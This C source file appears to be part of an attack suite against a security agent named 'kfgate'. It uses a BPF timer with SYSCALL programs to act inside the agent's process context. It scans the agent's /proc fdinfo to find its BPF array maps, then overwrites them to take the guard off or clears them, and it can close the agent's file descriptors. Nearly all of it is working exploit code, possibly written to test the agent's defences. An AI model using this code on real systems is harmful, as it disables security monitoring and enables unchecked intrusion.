/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * interrupt.c - system calls in the agent's name by a BPF timer: its callback runs in whatever process an interrupt
 * finds, and a program of type SYSCALL does system calls there.
 */
#include "attack.h"

#include <bpf/bpf.h>
#include <bpf/btf.h>
#include <bpf/libbpf.h>
#include <dirent.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define OBJECT "/t/interrupt.o"
#define SECONDS 5
#define TIMERS 16u

struct variables {
	struct bpf_object *obj;
	__u32 *target, *close_fd, *map_fd;
	__u64 *value, *done;
	long *answer;
};

/* A status to answer keeps the agent busy. */
static void ask_agent(void)
{
	struct sockaddr_un to = { .sun_family = AF_UNIX, .sun_path = "/run/kfgate/control" };
	int fd = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
	struct timeval wait = { .tv_usec = 300000 };
	static char reply[1 << 20];

	if (fd < 0)
		return;
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof(wait));
	if (!connect(fd, (void *)&to, sizeof(to)) && send(fd, "status", 6, MSG_NOSIGNAL) == 6)
		(void)!recv(fd, reply, sizeof(reply), 0);
	close(fd);
}

/* A variable of the program, in the memory of its map, which the object has mapped. */
static void *find(const struct bpf_object *obj, const char *name)
{
	struct bpf_map *map = bpf_object__find_map_by_name(obj, ".bss");
	struct btf *btf = bpf_object__btf(obj);
	struct btf_type *t = (struct btf_type *)btf__type_by_id(btf, bpf_map__btf_value_type_id(map));
	const struct btf_var_secinfo *v = btf_var_secinfos(t);
	char *base = mmap(NULL, bpf_map__value_size(map), PROT_READ | PROT_WRITE, MAP_SHARED, bpf_map__fd(map), 0);

	if (base == MAP_FAILED)
		return NULL;
	for (int i = 0; i < btf_vlen(t); i++)
		if (!strcmp(btf__name_by_offset(btf, btf__type_by_id(btf, v[i].type)->name_off), name))
			return base + v[i].offset;
	return NULL;
}

static int load(struct variables *v)
{
	v->obj = bpf_object__open(OBJECT);
	if (!v->obj || bpf_object__load(v->obj))
		return -errno;
	v->target = find(v->obj, "target");
	v->close_fd = find(v->obj, "close_fd");
	v->map_fd = find(v->obj, "map_fd");
	v->value = find(v->obj, "value");
	v->done = find(v->obj, "done");
	v->answer = find(v->obj, "answer");
	return 0;
}

/* Until it was done once, or SECONDS are over. */
static int run_once(struct variables *v)
{
	int prog = bpf_program__fd(bpf_object__next_program(v->obj, NULL));
	long cpus = sysconf(_SC_NPROCESSORS_ONLN);
	time_t until = time(NULL) + SECONDS;

	*v->done = 0;
	for (__u32 i = 0; i < TIMERS; i++) {
		LIBBPF_OPTS(bpf_test_run_opts, opts, .ctx_in = &i, .ctx_size_in = sizeof(i));
		cpu_set_t one;

		CPU_ZERO(&one);
		CPU_SET(i % cpus, &one);
		sched_setaffinity(0, sizeof(one), &one);
		if (bpf_prog_test_run_opts(prog, &opts))
			return -errno;
		if (opts.retval)
			return (int)opts.retval;
	}
	while (!*(volatile __u64 *)v->done && time(NULL) < until)
		ask_agent();
	usleep(100000);
	return *v->done ? (int)*v->answer : -ETIMEDOUT;
}

/* The number after a word in a file of /proc; -1: there is none. */
static long field(const char *path, const char *word)
{
	FILE *f = fopen(path, "re");
	char line[256];
	long n = -1;

	while (f && fgets(line, sizeof(line), f))
		if (!strncmp(line, word, strlen(word)))
			n = strtol(line + strlen(word), NULL, 0);
	if (f)
		fclose(f);
	return n;
}

/* Writes to each array that the agent may write to: all zeros, or, of 8 bytes, a 1 (the guard was taken off). */
static int interrupt_map(int argc, char **argv)
{
	bool retire = argc > 0 && !strcmp(argv[0], "retire");
	pid_t agent = find_agent();
	struct variables v = { 0 };
	int r = load(&v), n = 0;
	char dir[64], path[400];
	struct dirent *e;
	DIR *d;

	if (r)
		return r;
	snprintf(dir, sizeof(dir), "/proc/%d/fdinfo", agent);
	d = opendir(dir);
	if (!d)
		return NOTHING;
	*v.target = agent;
	v.value[0] = retire;
	while ((e = readdir(d))) {
		long size;

		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		size = field(path, "value_size:");
		if (field(path, "map_type:") != 2 || field(path, "frozen:") || field(path, "max_entries:") != 1 ||
		    size > 4096 || retire != (size == 8))
			continue;
		*v.map_fd = atoi(e->d_name);
		r = run_once(&v);
		n += !r;
	}
	closedir(d);
	return n ? 0 : r ? r : NOTHING;
}

static int interrupt_close(int argc, char **argv)
{
	struct variables v = { 0 };
	int r = argc > 0 ? load(&v) : -EINVAL;

	if (r)
		return r;
	*v.target = find_agent();
	*v.close_fd = atoi(argv[0]);
	return run_once(&v);
}

const struct attack attacks_interrupt[] = {
	{ "interrupt-map", interrupt_map, "write to the gate's maps in the agent's name, by a timer (\"retire\")" },
	{ "interrupt-close", interrupt_close, "close a descriptor of the agent's by a timer (NUMBER)" },
	{ 0 },
};
